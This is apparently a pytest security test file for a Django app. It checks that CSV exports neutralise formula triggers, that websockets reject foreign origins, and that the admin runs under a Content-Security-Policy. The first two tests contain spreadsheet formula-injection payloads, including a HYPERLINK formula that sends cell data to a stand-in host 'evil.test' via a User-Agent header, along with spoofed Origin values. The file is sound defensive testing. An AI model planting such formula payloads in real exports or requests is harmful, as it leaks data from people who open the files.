"""Output hygiene (issue 9): CSV exports carry no live formulas, a websocket's Origin must be
its own host, and the Django admin runs under the Content-Security-Policy."""

import asyncio
import csv
import io
import re

import pytest

from tests.base import client_for
from windflow.exports import FORMULA_TRIGGERS, csv_stream, neutralise


@pytest.mark.parametrize("trigger", FORMULA_TRIGGERS)
def test_it_neutralises_every_formula_trigger(trigger):
    cell = f'{trigger}HYPERLINK("http://evil.test","x")'
    assert neutralise(cell) == "'" + cell
    assert neutralise(f"a{cell}") == f"a{cell}"
    assert neutralise(None) == ""
    assert neutralise(42) == "42"
    rows = list(csv.reader(io.StringIO("".join(csv_stream(["a"], [{"a": cell}])))))
    assert rows == [["a"], ["'" + cell]]


def test_it_exports_a_failed_sign_in_user_agent_as_inert_text(acme, admin):
    formula = '=HYPERLINK("http://evil.test/?"&A1,"click")'
    attempt = client_for(None, acme)
    attempt.post(
        "/accounts/login/",
        {"login": "nobody@acme.test", "password": "wrong password"},
        HTTP_USER_AGENT=formula,
    )
    response = client_for(admin, acme).get("/audit/export.csv")
    assert response.status_code == 200
    text = b"".join(response.streaming_content).decode()
    rows = list(csv.DictReader(io.StringIO(text)))
    failed = [row for row in rows if row["action"] == "auth.login_failed"]
    assert failed, rows
    assert failed[-1]["user_agent"] == "'" + formula
    for row in rows:
        for value in row.values():
            assert not value.startswith(FORMULA_TRIGGERS), (row, value)


def _connect(host: str, origin: str | None):
    from channels.testing import WebsocketCommunicator

    from windflow.asgi import application

    headers = [(b"host", host.encode())]
    if origin is not None:
        headers.append((b"origin", origin.encode()))

    async def attempt():
        communicator = WebsocketCommunicator(application, "/ws/notifications/", headers=headers)
        connected, code = await communicator.connect()
        await communicator.disconnect()
        return connected, code

    return asyncio.run(attempt())


@pytest.mark.parametrize(
    "origin",
    [
        "http://globex.localhost",  # a sibling organisation's subdomain
        "http://evil.acme.localhost",
        "http://localhost",
        "http://acme.localhost.evil.test",
        "https://acme.localhost:8443",
        "http://user@acme.localhost",
        "null",
        "",
        None,
    ],
)
def test_it_refuses_a_websocket_whose_origin_is_not_its_own_host(acme, origin):
    connected, code = _connect("acme.localhost", origin)
    assert not connected
    assert code == 4403


def test_it_lets_a_websocket_of_its_own_origin_through_the_origin_check(acme):
    from windflow.realtime import same_origin

    assert same_origin("http://acme.localhost", "acme.localhost")
    assert same_origin("https://Acme.Localhost:443", "acme.localhost")
    assert same_origin("http://acme.localhost:8000", "acme.localhost:8000")
    assert not same_origin("http://acme.localhost:8001", "acme.localhost:8000")
    # Past the origin check, the consumer itself decides: 4401, not signed in.
    connected, code = _connect("acme.localhost", "http://acme.localhost")
    assert not connected
    assert code == 4401


def test_it_serves_the_admin_under_the_content_security_policy(db):
    from apps.accounts.models import User

    staff = User.objects.create_superuser("root@platform.test", "pw-root-123456")
    signed_in, anonymous = client_for(staff), client_for(None)
    pages = ["/admin/", f"/admin/accounts/user/{staff.pk}/change/", "/admin/login/"]
    for path in pages:
        client = anonymous if path == "/admin/login/" else signed_in
        response = client.get(path)
        assert response.status_code == 200, path
        policy = response["Content-Security-Policy"]
        assert "script-src 'self'" in policy and "style-src 'self'" in policy
        page = response.content.decode()
        # Nothing the policy would block: no inline script, style attribute or handler.
        assert not re.search(r"<script(?![^>]*\bsrc=)[^>]*>\s*\S", page), path
        assert not re.search(r"\sstyle=\"", page), path
        assert not re.search(r"\son[a-z]+=\"", page), path
        # And its scripts and styles are served by the app itself.
        for url in re.findall(r'(?:src|href)="(/static/[^"]+\.(?:js|css))"', page):
            assert client.get(url).status_code == 200, url
    change = signed_in.get(f"/admin/accounts/user/{staff.pk}/change/").content.decode()
    assert re.search(r'<script src="/static/admin/js/[^"]+"', change)
